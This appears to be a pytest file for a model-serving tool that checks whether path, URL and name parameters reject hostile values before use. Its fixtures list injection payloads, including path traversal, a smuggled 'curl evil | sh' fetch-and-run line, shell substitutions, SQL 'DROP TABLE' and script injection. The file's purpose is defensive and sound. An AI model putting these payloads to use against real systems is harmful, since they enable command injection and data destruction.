"""What comes from outside is checked at the door, by one table, before it reaches a path, a command or a page."""

import json
import shlex
import sys
from pathlib import Path

import pytest

from playbook.chain import pipeline
from playbook.deploy.plan import plan_of
from playbook.errors import ParameterError
from playbook.export import export
from playbook.monitor import monitor
from playbook.records import names, runs
from playbook.serve.spec import ServerSpec, from_parameters

HOSTILE = [
    "../../../X",
    "a/../../b",
    "..",
    ".hidden",
    "a\nRUN curl evil | sh",
    "a b",
    "$(touch pwned)",
    "`id`",
    "a'; DROP TABLE runs; --",
    'a" onload="x',
    "<script>alert(1)</script>",
    "a\x00b",
    "digits\n",
    "é" * 3,
    "x" * 500,
    "",
    5,
    ["digits"],
]
GOOD = {
    "model_name": ["digits", "bert-base_v1.2", "M"],
    "image": ["tensorflow/serving:2.20.0", "registry.example.org:5000/team/serving@sha256:" + "a" * 64],
    "rest_url": ["http://127.0.0.1:8501", "https://a-b.example.org/serving/v2", "http://u:p%40ss@[::1]:8501/"],
    "metrics_url": ["http://host:8501/monitoring/prometheus/metrics"],
    "grpc_url": ["127.0.0.1:8500", "grpc://host:8500", "grpcs://host:443"],
    "server_name": ["model.example.com", "localhost"],
    "tls_secret": ["digits-grpc-tls", "a.b"],
    "run": ["20260101T000000Z-quick"],
    "params file": ["quick.yml"],
}


@pytest.mark.parametrize("name", names.RULES)
def test_good_names_pass_as_they_are_and_hostile_ones_are_refused(name: str) -> None:
    assert [names.check(name, value) for value in GOOD[name]] == GOOD[name]
    assert names.check(name, names.RULES[name].example)
    for value in HOSTILE:
        with pytest.raises(ParameterError, match=f"{name} is .*expected.*such as") as refused:
            names.check(name, value)
        assert len(str(refused.value)) < 500


@pytest.mark.parametrize("value", [value for value in HOSTILE if value != ""])
def test_no_door_lets_a_hostile_value_in(tmp_path: Path, value: object) -> None:
    doors = {
        "serve": lambda name: from_parameters({"model_name": "m", name: value}, tmp_path),
        "chain": lambda name: runs.create(tmp_path, Path("quick.yml"), {name: value}),
    }
    for name in ("model_name", "image", "rest_url", "grpc_url", "metrics_url"):
        for door in doors.values():
            with pytest.raises(ParameterError, match=name):
                door(name)
    with pytest.raises(ParameterError, match="image"):
        plan_of(tmp_path, value, None)
    with pytest.raises(ParameterError, match="model_name"):
        export.build({"run_dir": str(tmp_path), "model_name": value, "model": "digits_mlp"})
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize(
    "url", ["ftp://host/x", "http://", "http://a b", "http://h/$(id)", "http://h/'x'", "host:8501"]
)
def test_the_monitor_takes_addresses_alone(tmp_path: Path, url: str) -> None:
    with pytest.raises(ParameterError, match="http"):
        monitor.collect(url, outputs=tmp_path)
    assert list(tmp_path.iterdir()) == []


def test_a_chain_with_a_hostile_name_makes_nothing(tmp_path: Path) -> None:
    params = tmp_path / "quick.yml"
    params.write_text('model_name: "../../../X"\n')
    with pytest.raises(ParameterError, match="model_name"):
        pipeline.prepare(params, tmp_path / "outputs", {}, [], None, None)
    assert not (tmp_path / "outputs").exists()


def test_an_optional_name_may_be_empty() -> None:
    assert ServerSpec("m", Path("/m")).image == ""
    with pytest.raises(ParameterError, match="model_name"):
        ServerSpec("", Path("/m"))


def test_the_command_that_repeats_a_run_is_quoted(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    words = ["playbook", "run", "params/my file.yml", "--set", "model=$(touch pwned)"]
    monkeypatch.setattr(sys, "argv", words)
    run = runs.create(tmp_path, Path("quick.yml"), {})
    assert shlex.split(json.loads((run / "run.json").read_text())["command"]) == words


@pytest.mark.parametrize("word", ["S3CRET", "S3/CRET", "S3@CRET", "S3:CRET/@"])
def test_a_refused_address_shows_no_part_of_its_password(word: str) -> None:
    for name, address in (("rest_url", f"ftp://user:{word}@host"), ("metrics_url", f"http://user:{word}@host :1")):
        with pytest.raises(ParameterError, match=r"://\*\*\*@host") as refused:
            names.check(name, address)
        assert "S3" not in str(refused.value)
        assert "CRET" not in str(refused.value)
